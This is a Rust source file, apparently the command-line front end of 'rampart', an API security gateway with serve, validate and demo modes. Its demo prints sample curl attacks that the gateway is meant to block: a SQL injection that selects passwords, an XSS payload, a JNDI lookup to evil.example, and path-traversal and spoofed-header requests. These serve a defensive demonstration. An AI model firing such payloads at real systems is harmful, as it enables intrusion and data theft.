//! `rampart`: the command line. Wiring only — every decision lives in the gateway crate.

use anyhow::{Context, Result};
use clap::{Parser, Subcommand};
use gateway::config::Source;
use gateway::server::{Gateway, StartOptions};
use std::net::SocketAddr;
use std::path::PathBuf;

/// mimalloc: the request path allocates small short-lived buffers; glibc malloc showed up at ~6% of CPU in
/// profiles of the proxy under load.
#[global_allocator]
static GLOBAL: mimalloc::MiMalloc = mimalloc::MiMalloc;

const EXAMPLES: &str = "\
Examples:
  rampart demo                                   # gateway + sample API, with curl lines to try
  rampart serve --upstream http://127.0.0.1:9000 # protect one API, no config file
  rampart serve --config examples/quickstart.yaml
  rampart validate examples/quickstart.yaml      # exit 1 with file:line:column errors";

#[derive(Parser)]
#[command(name = "rampart", version, about = "Rampart: an API security gateway", after_help = EXAMPLES)]
struct Cli {
    #[command(subcommand)]
    command: Command,
}

#[derive(Subcommand)]
enum Command {
    /// Run the gateway, from a config file or in front of one upstream.
    #[command(after_help = EXAMPLES)]
    Serve {
        /// YAML configuration file (reloaded on SIGHUP and when it changes).
        #[arg(long, short, conflicts_with = "upstream", required_unless_present = "upstream")]
        config: Option<PathBuf>,
        /// Reload only on SIGHUP, not when the config file or its certificates change.
        #[arg(long, requires = "config")]
        no_watch: bool,
        /// Protect this one API with the default protections, no config file needed.
        #[arg(long)]
        upstream: Option<String>,
        /// Address to listen on with --upstream.
        #[arg(long, default_value = "127.0.0.1:8080", requires = "upstream")]
        listen: SocketAddr,
        /// Admin listener (metrics, health) with --upstream.
        #[arg(long, requires = "upstream")]
        admin: Option<SocketAddr>,
    },
    /// Compile a configuration without serving; print every error as file:line:column.
    Validate { file: PathBuf },
    /// Start the built-in sample API and the gateway in front of it, and print what to try.
    Demo {
        #[arg(long, default_value = "127.0.0.1:8080")]
        listen: SocketAddr,
        #[arg(long, default_value = "127.0.0.1:9901")]
        admin: SocketAddr,
    },
}

fn init_logging() {
    use tracing_subscriber::EnvFilter;
    let filter = EnvFilter::try_from_env("RAMPART_LOG").unwrap_or_else(|_| EnvFilter::new("info"));
    tracing_subscriber::fmt()
        .json()
        .with_env_filter(filter)
        .with_writer(std::io::stderr)
        .with_current_span(false)
        .init();
}

/// A YAML double-quoted scalar.
fn quoted(s: &str) -> String {
    format!("\"{}\"", s.replace('\\', "\\\\").replace('"', "\\\""))
}

fn upstream_config(upstream: &str, listen: SocketAddr, admin: Option<SocketAddr>) -> Result<String> {
    let uri: http::Uri = upstream.parse().with_context(|| format!("--upstream {upstream}: not a URL"))?;
    anyhow::ensure!(
        matches!(uri.scheme_str(), Some("http" | "https")) && uri.authority().is_some(),
        "--upstream {upstream}: write a URL like http://127.0.0.1:9000"
    );
    let mut text = format!(
        "listen: [{{ addr: {} }}]\nupstreams:\n  app: {{ targets: [{}] }}\nroutes:\n  - {{ id: all, path: \"/*\", methods: [ANY], upstream: app }}\n",
        quoted(&listen.to_string()),
        quoted(upstream)
    );
    if let Some(a) = admin {
        text.push_str(&format!("admin: {{ addr: {} }}\n", quoted(&a.to_string())));
    }
    Ok(text)
}

async fn run(source: Source, watch: bool) -> Result<()> {
    let handle = Gateway::start(source, StartOptions { watch }).await?;
    for a in &handle.addrs {
        eprintln!("rampart listening on {a}");
    }
    wait_for_signals(&handle).await;
    Ok(())
}

#[cfg(unix)]
async fn wait_for_signals(handle: &gateway::GatewayHandle) {
    use tokio::signal::unix::{signal, SignalKind};
    let (Ok(mut hup), Ok(mut term), Ok(mut int)) =
        (signal(SignalKind::hangup()), signal(SignalKind::terminate()), signal(SignalKind::interrupt()))
    else {
        let _ = tokio::signal::ctrl_c().await;
        handle.shutdown().await;
        return;
    };
    loop {
        tokio::select! {
            _ = hup.recv() => { let _ = handle.reload().await; }
            _ = term.recv() => break,
            _ = int.recv() => break,
        }
    }
    tracing::info!(target: "rampart", "shutting down: draining connections");
    handle.shutdown().await;
}

#[cfg(not(unix))]
async fn wait_for_signals(handle: &gateway::GatewayHandle) {
    let _ = tokio::signal::ctrl_c().await;
    handle.shutdown().await;
}

async fn demo(listen: SocketAddr, admin: SocketAddr) -> Result<()> {
    let (api, _task) = sample_api::spawn("127.0.0.1:0".parse()?).await.context("cannot start the sample API")?;
    let text = include_str!("demo.yaml")
        .replace("@LISTEN@", &listen.to_string())
        .replace("@ADMIN@", &admin.to_string())
        .replace("@UPSTREAM@", &format!("http://{api}"));
    let source = Source::Inline { name: "demo.yaml (embedded)".into(), text, base_dir: std::env::current_dir()? };
    let handle = Gateway::start(source, StartOptions::default()).await?;
    let g = handle.addrs.first().copied().unwrap_or(listen);
    println!(
        "\nRampart demo: gateway on http://{g}, sample API on http://{api} (admin: http://{admin})\n\n\
Legitimate calls pass:\n  \
curl -i http://{g}/users/2\n  \
curl -i http://{g}/products\n  \
curl -i -X POST http://{g}/users -H 'content-type: application/json' -d '{{\"name\":\"Grace\"}}'\n\n\
Attacks and mistakes are stopped (problem+json with a stable code):\n  \
curl -i \"http://{g}/products?q=1%27%20UNION%20SELECT%20password%20FROM%20users--\"   # inspect.sqli\n  \
curl -i -X POST http://{g}/users -H 'content-type: application/json' -d '{{\"name\":\"<img src=x onerror=alert(1)>\"}}'   # inspect.xss\n  \
curl -i http://{g}/users/1 -H 'User-Agent: ${{jndi:ldap://evil.example/x}}'   # inspect.jndi\n  \
curl -i http://{g}/internal/debug                          # route.not_found: undeclared endpoints don't exist\n  \
curl -i --path-as-is 'http://{g}/users/%2e%2e/internal/debug'  # resolved to /internal/debug first: still not found\n  \
curl -i --path-as-is 'http://{g}/users/..%2finternal/debug'    # admit.bad_path: ambiguous encodings are refused\n  \
curl -i -X DELETE http://{g}/users/1                       # route.method_not_allowed\n  \
head -c 10000 /dev/zero | curl -i -X POST http://{g}/users --data-binary @-   # admit.body_too_large\n  \
curl -i -H 'X-Forwarded-For: 1.2.3.4' http://{g}/users/1   # spoofed client IP is ignored (see the access log)\n\n\
Visibility:\n  \
curl http://{admin}/metrics\n  \
curl http://{admin}/readyz\n\n\
Access log on stdout, security events on stderr. Ctrl-C stops.\n"
    );
    wait_for_signals(&handle).await;
    Ok(())
}

fn main() -> Result<()> {
    let cli = Cli::parse();
    if let Command::Validate { file } = &cli.command {
        let metrics = gateway::metrics::Metrics::new();
        return match gateway::config::load_file(file, &metrics) {
            Ok(rt) => {
                println!(
                    "{}: ok ({} listeners, {} upstreams, {} routes)",
                    file.display(),
                    rt.listeners.len(),
                    rt.upstreams.len(),
                    rt.routes.len()
                );
                Ok(())
            }
            Err(errors) => {
                eprintln!("{errors}");
                std::process::exit(1);
            }
        };
    }
    init_logging();
    let rt = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
    rt.block_on(async {
        match cli.command {
            Command::Serve { config: Some(path), no_watch, .. } => run(Source::File(path), !no_watch).await,
            Command::Serve { upstream: Some(u), listen, admin, .. } => {
                let text = upstream_config(&u, listen, admin)?;
                run(Source::Inline { name: "--upstream".into(), text, base_dir: std::env::current_dir()? }, false).await
            }
            Command::Serve { .. } => anyhow::bail!("give --config FILE or --upstream URL"),
            Command::Demo { listen, admin } => demo(listen, admin).await,
            Command::Validate { .. } => Ok(()),
        }
    })
}
